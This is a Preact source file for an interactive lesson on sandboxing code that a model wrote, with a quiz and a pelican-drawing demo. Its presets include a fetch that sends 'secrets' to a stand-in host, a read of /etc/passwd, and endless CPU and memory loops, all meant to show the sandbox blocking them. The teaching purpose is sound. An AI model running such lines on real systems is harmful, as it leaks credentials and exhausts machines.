/** Lesson: what a model wrote is run where it can do no harm. */
import { useSignal } from "@preact/signals";
import type { JavaScriptRun } from "../../../src/record/sandbox-run.ts";
import { post } from "../server.ts";
import { useWork } from "../work.ts";
import { useAsking } from "./asking.ts";
import { Presets, TextField } from "./fields.tsx";
import { Answer, Check, Experiment, Notice } from "./pieces.tsx";

const PRESETS: readonly { title: string; text: string }[] = [
  { title: "a sum", text: "const prices = [3, 4, 5];\nconsole.log(prices.reduce((sum, each) => sum + each, 0));" },
  { title: "the network", text: 'fetch("https://example.com/steal?what=secrets");' },
  { title: "your files", text: 'require("fs").readFileSync("/etc/passwd", "utf8");' },
  { title: "without end", text: "while (true) {}" },
  { title: "all the memory", text: "const all = [];\nwhile (true) all.push(new Array(1000000).fill(1));" },
];

function Before() {
  return (
    <>
      <p>
        What a model writes is as untrusted as a letter from a stranger: it may be wrong, and it may have been told by
        someone else what to write. As long as it is read nothing happens. Once it is run, as a program or as a page, it
        has all the rights of whatever runs it.
      </p>
      <p>
        A sandbox is a place with fewer rights. penny scores programs of models in one that has no files, no network, no
        other programs, and little time and memory. Drawings are never put into this page as they are: SVG may hold
        scripts and addresses, so the server draws it and gives out the picture.
      </p>
    </>
  );
}

function After() {
  return (
    <>
      <Notice>
        <p>
          <code>fetch</code> and <code>require</code> are not forbidden there: they do not exist. The loop without end
          is ended after some seconds, and this page never froze, as the program runs in a process of its own. Of the
          drawing you see a picture; its source is text.
        </p>
      </Notice>
      <Check
        lesson="sandbox"
        question="You want to try a script that a model wrote. What is the safest order?"
        options={[
          "Run it, and read it if something looks odd.",
          "Ask the model whether it is safe, then run it.",
          "Read it, then run it where it can reach nothing of value.",
        ]}
        right={2}
        why="The model’s own word proves nothing, and after the run it is too late."
      />
    </>
  );
}

function Outcome({ run }: { run: JavaScriptRun }) {
  return (
    <div class="answer">
      {run.printed.map((line, index) => (
        <div key={index} class="said code">
          {line}
        </div>
      ))}
      {run.error !== undefined && <div class="said failed">{run.error}</div>}
      {run.error === undefined && run.printed.length === 0 && <p class="soft">It ran and printed nothing.</p>}
    </div>
  );
}

/** The lesson. */
export function SandboxLesson() {
  const code = useSignal(PRESETS[0]?.text ?? "");
  const ran = useSignal<JavaScriptRun | undefined>(undefined);
  const work = useWork();
  const drawing = useAsking();
  const run = async (): Promise<void> => {
    ran.value = undefined;
    ran.value = await post<JavaScriptRun>("/api/learn/javascript", { code: code.value });
  };
  const draw = (): void =>
    void drawing.run([
      { model: "pocket/pocket-m", prompt: "Draw a pelican riding a bicycle as SVG", options: { temperature: 0 } },
    ]);
  return (
    <>
      <Before />
      <Experiment
        title="run something bad"
        run={() => void work.during(run)}
        runText="Run it in the sandbox"
        work={work}
        fields={
          <>
            <TextField label="JavaScript" rows={4} value={code} />
            <Presets presets={PRESETS} value={code} />
          </>
        }
      >
        {ran.value && <Outcome run={ran.value} />}
        <p class="again">
          <button type="button" onClick={draw} disabled={drawing.isBusy.value}>
            Let pocket-m draw a pelican
          </button>
        </p>
        {drawing.calls.value.length > 0 && <Answer title="pocket-m" call={drawing.calls.value[0]} draws />}
      </Experiment>
      <After />
    </>
  );
}
